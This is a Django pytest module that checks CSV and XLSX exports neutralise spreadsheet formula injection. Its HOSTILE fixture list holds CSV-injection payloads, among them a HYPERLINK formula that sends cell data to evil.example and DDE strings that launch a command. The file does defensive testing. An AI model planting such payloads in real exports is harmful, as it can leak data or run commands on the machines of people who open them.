"""Every export a person may open in a spreadsheet writes hostile text as text, never as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from directory.hsds.services import datapackage_import
from directory.hsds.tabular import datapackage_build
from directory.models import Organization
from directory.resources import OrganizationResource
from moia import csvio
from reports.rendering import render_csv
from tests.directory.test_hsds_datapackage import directory_flush, tables_of
from tests.factories.accounts import StaffFactory, totp_enable
from tests.factories.directory import OrganizationFactory, ServiceFactory
from tests.factories.surveys import respond, survey_small

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_text(value: str, original: str) -> bool:
    return value == "'" + original


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text_and_read_back_unchanged(value):
    escaped = csvio.cell(value)
    assert _is_text(escaped, value)
    assert csvio.cell_unescaped(escaped) == value


@pytest.mark.parametrize("value", ["-12", "+3.5", "42", "Legal aid", "a=b", "", "'quoted"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csvio.cell(value) == value


def test_the_hsds_datapackage_escapes_names_and_its_import_restores_them():
    organization = OrganizationFactory(name_en=HOSTILE[0], description_en=HOSTILE[1])
    ServiceFactory(organization=organization, name_en=HOSTILE[3])
    package = datapackage_build()
    tables = tables_of(package)
    (row,) = [row for row in tables["organizations.csv"] if row["id"] == str(organization.pk)]
    assert _is_text(row["name"], HOSTILE[0])
    assert _is_text(row["description"], HOSTILE[1])
    assert any(_is_text(service["name"], HOSTILE[3]) for service in tables["services.csv"])
    directory_flush()
    datapackage_import(data=package)
    assert Organization.objects.get(pk=organization.pk).name_en == HOSTILE[0]


def test_the_report_csv_escapes_row_labels():
    snapshot = {
        "year": 2026,
        "sections": [
            {
                "key": "programs",
                "tables": [
                    {"key": "t", "columns": ["Served"], "rows": [{"label": HOSTILE[0], "values": [12]}], "totals": None}
                ],
            }
        ],
    }
    rows = list(csv.reader(io.StringIO(render_csv(snapshot).decode("utf-8"))))
    assert _is_text(rows[1][3], HOSTILE[0])
    assert rows[1][5] == "12"


def test_survey_exports_escape_free_text_answers(client):
    survey = survey_small()
    respond(survey, {"color": "red", "comment": HOSTILE[2]})
    manager = StaffFactory(roles=["Survey managers"])
    totp_enable(manager)
    client.force_login(manager)
    for kind in ("wide", "long"):
        response = client.get(reverse("admin:surveys_survey_export", args=[survey.pk, kind]))
        content = b"".join(response.streaming_content).decode("utf-8")
        assert content.startswith(csvio.BOM)  # Excel reads the 11 languages' text as UTF-8
        cells = [value for row in csv.reader(io.StringIO(content)) for value in row]
        assert "'" + HOSTILE[2] in cells, kind
        assert HOSTILE[2] not in cells, kind


def test_admin_csv_and_xlsx_exports_write_no_live_formula(settings):
    OrganizationFactory(name_en=HOSTILE[0])
    dataset = OrganizationResource().export()
    formats = {format_class.__name__: format_class for format_class in settings.EXPORT_FORMATS}
    text = formats["SafeCSV"]().export_data(OrganizationResource().export())
    assert "'" + HOSTILE[0].replace('"', '""') in text
    workbook = openpyxl.load_workbook(io.BytesIO(formats["SafeXLSX"]().export_data(dataset)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value]
    assert any(cell.value == "'" + HOSTILE[0] for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
